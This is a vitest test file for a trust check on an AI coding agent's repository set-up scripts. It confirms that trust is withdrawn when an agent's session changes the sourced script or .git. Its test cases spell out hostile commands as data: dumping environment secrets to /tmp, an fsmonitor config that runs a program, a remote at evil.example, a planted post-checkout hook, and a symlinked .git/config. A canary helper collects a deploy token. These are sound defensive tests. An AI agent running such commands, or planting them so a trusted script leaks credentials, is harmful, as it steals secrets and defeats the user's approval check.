import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { trustOf, trustRepositoryOf } from '../../parts/client/trust.ts'
import { done, run, startTrusting, type Trusting } from '../../parts/client/trusting.ts'

const TOKEN = 'canary-settled-0123456789'
let scene: Trusting

beforeAll(async () => {
  scene = await startTrusting({ DEPLOY_TOKEN: TOKEN })
})
afterEach(() => scene.closeWatches())
afterAll(() => scene?.close())

describe('a set-up script that makes and changes files which it names', () => {
  const script = (path: string) =>
    `# with $DEPLOY_TOKEN\n. ./made.sh 2>/dev/null\necho 'made=1' >made.sh\ndate +%N >>changed.txt\n${scene.steal(path)}`

  it('is trusted as it was cloned: the next clone does not ask again', async () => {
    const { git, canary, service, start, setUp, untilSetUp } = scene
    await git.add('maker', { '.openhands/setup.sh': script('maker'), 'changed.txt': 'as cloned\n' })
    const first = await start('maker')
    const asked = await trustOf(service, first.id)
    expect(asked.items[0]?.files.map(({ path, text }) => [path, text])).toEqual([
      ['.openhands/setup.sh', script('maker')],
      ['changed.txt', 'as cloned\n'],
    ])
    await trustRepositoryOf(service, first.id)
    await setUp(first.id)
    await untilSetUp(first.id, 'done')
    expect(canary.sent('/maker')[1]).toContain(TOKEN)
    const second = await start('maker')
    expect(canary.sent('/maker')[2]).toContain(TOKEN)
    expect(await trustOf(service, second.id)).toMatchObject({ state: 'trusted', left_out: [] })
  })

  it('is not trusted with what somebody else has put into such a file', async () => {
    const { git, canary, service, start, work, setUp } = scene
    await git.add('planted', { '.openhands/setup.sh': script('planted'), 'changed.txt': 'as cloned\n' })
    const started = await start('planted')
    await trustRepositoryOf(service, started.id)
    await work(started, [run('echo "env >/tmp/planted" >made.sh'), done])
    expect(await trustOf(service, started.id)).toMatchObject({ state: 'waiting', items: [{ trusted: false }] })
    await expect(setUp(started.id)).rejects.toMatchObject({ code: 'conflict' })
    expect(canary.sent('/planted')).toHaveLength(1)
  })
})

describe('a trusted set-up script that runs git', () => {
  const script = (path: string) => `git status >/dev/null; : $DEPLOY_TOKEN; ${scene.steal(path)}`

  it.each([
    ['runs a program', 'git config core.fsmonitor "env >/tmp/stolen; :"', '.git/config'],
    ['fetches from elsewhere', 'git remote set-url origin https://evil.example/x.git', '.git/config'],
    ['runs a filter', 'echo "* filter=evil" >.git/info/attributes', '.git/info/attributes'],
    [
      'runs a hook',
      'printf "#!/bin/sh\\nenv\\n" >.git/hooks/post-checkout; chmod +x .git/hooks/post-checkout',
      '.git/hooks/post-checkout',
    ],
  ])('asks again after an agent has changed .git so that git %s', async (_what, command, path) => {
    const { git, service, start, work, setUp } = scene
    const name = `git${command.length}`
    await git.add(name, { '.openhands/setup.sh': script('plain') })
    const started = await start(name)
    await trustRepositoryOf(service, started.id)
    expect(await trustOf(service, started.id)).toMatchObject({ set_up: { state: 'offered' } })
    await work(started, [run(command), done])
    const now = await trustOf(service, started.id)
    expect(now).toMatchObject({ state: 'waiting', items: [{ trusted: false }] })
    expect(now.items[0]?.files.map(file => file.path)).toContain(path)
    await expect(setUp(started.id)).rejects.toMatchObject({ code: 'conflict' })
    await scene.distrust(now.repository)
  })

  it('does not ask again for branches and an identity, and never for a link in the place of its configuration', async () => {
    const { git, service, start, work, setUp } = scene
    await git.add('branched', { '.openhands/setup.sh': script('branched') })
    const started = await start('branched')
    await trustRepositoryOf(service, started.id)
    const harmless =
      'git checkout -qb work; git config user.name Ann; git config branch.work.remote origin; git config branch.work.merge refs/heads/work'
    await work(started, [run(harmless), done])
    expect(await trustOf(service, started.id)).toMatchObject({ state: 'trusted', set_up: { state: 'offered' } })
    await work(started, [run('mv .git/config /tmp/config; ln -s /tmp/config .git/config'), done])
    expect((await trustOf(service, started.id)).items[0]).toMatchObject({
      problem: '.git/config cannot be read, or is a link.',
    })
    await expect(setUp(started.id)).rejects.toMatchObject({ code: 'conflict' })
  })
})
